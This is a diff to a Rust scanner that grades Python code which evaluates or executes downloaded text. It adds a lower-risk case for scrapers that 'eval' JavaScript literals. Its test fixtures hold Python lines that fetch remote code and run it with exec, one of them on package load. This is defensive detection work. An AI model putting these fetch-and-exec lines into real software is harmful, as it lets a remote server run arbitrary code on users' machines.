@@ -712,8 +712,21 @@ fn check_executed(
         // A remote console that checks a secret token first (scrapy's remote control) is a
         // feature its user switches on; a web shell answers whoever finds it.
         let authenticated = super::sources::authenticates_requests(checker, label);
+        // `eval(text[text.find('['):])` in a function: scrapers of sites answering in
+        // JavaScript literals evaluate them as data. The server could run code through it, a
+        // vulnerability of the tool; a second stage is `exec`uted, or evaluated while loading.
+        let parses = qualname == "eval"
+            && matches!(
+                checker.context(),
+                ExecContext::Runtime | ExecContext::TestOrDocs
+            );
         let (severity, guard) = if authenticated {
             (0.25, ", for authenticated callers only")
+        } else if parses {
+            (
+                0.3,
+                ", as an expression whose value the caller gets: a parsing shortcut that lets the server run code",
+            )
         } else if built {
             (0.55, "")
         } else {
@@ -983,9 +996,13 @@ mod tests {
         let fixed = "import requests\ndef update():\n    exec(requests.get('https://rentry.example/raw').text)\n";
         assert!(max_severity("p/pkg/m.py", fixed, "WH110") >= 0.9);
         // A tool evaluating parts of what it downloads from an address it builds: a risk.
-        let built = "import requests\ndef default(url):\n    text = requests.get(url).text\n    return eval(text)\n";
+        let built = "import requests\ndef default(url):\n    text = requests.get(url).text\n    exec(text)\n";
         let severity = max_severity("p/pkg/m.py", built, "WH110");
         assert!((0.4..0.7).contains(&severity), "{severity}");
+        // A scraper evaluating a JavaScript literal it downloads gets data back: a risk only.
+        let parsed = "import requests\ndef quotes():\n    text = requests.get('https://quotes.example/q').text\n    return eval(text[text.find('['):])\n";
+        let severity = max_severity("p/pkg/m.py", parsed, "WH110");
+        assert!((0.2..0.4).contains(&severity), "{severity}");
         // While loading, the address does not matter.
         let loading = "import requests\nURL = input()\nexec(requests.get(URL).text)\n";
         assert!(max_severity("p/pkg/__init__.py", loading, "WH110") >= 0.9);
